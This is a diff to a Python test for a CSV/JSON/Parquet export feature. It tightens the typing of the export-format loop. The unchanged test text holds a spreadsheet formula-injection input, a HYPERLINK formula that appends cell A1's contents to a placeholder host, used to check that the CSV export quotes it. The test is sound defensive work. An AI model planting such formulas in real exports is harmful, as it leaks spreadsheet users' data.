@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import json
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import pandas as pd
 import pyarrow.parquet as pq
@@ -81,8 +81,9 @@ def test_only_csv_quotes_text_that_a_spreadsheet_would_compute(tmp_path: Path, f
     text = f'{first}HYPERLINK("//x?"&A1)'
     path = write_turns(tmp_path / "run", requests=1, text=text)
     told = {}
-    for kind in ("csv", "json", "parquet"):
-        export(path, tmp_path, kind)  # type: ignore[arg-type]
+    kinds: tuple[Literal["csv", "json", "parquet"], ...] = ("csv", "json", "parquet")
+    for kind in kinds:
+        export(path, tmp_path, kind)
         (record,) = read(tmp_path / f"requests.{kind}")
         row = read(tmp_path / f"activations.{kind}")[0]
         told[kind] = {record["prompt_text"], row["explanation"]}
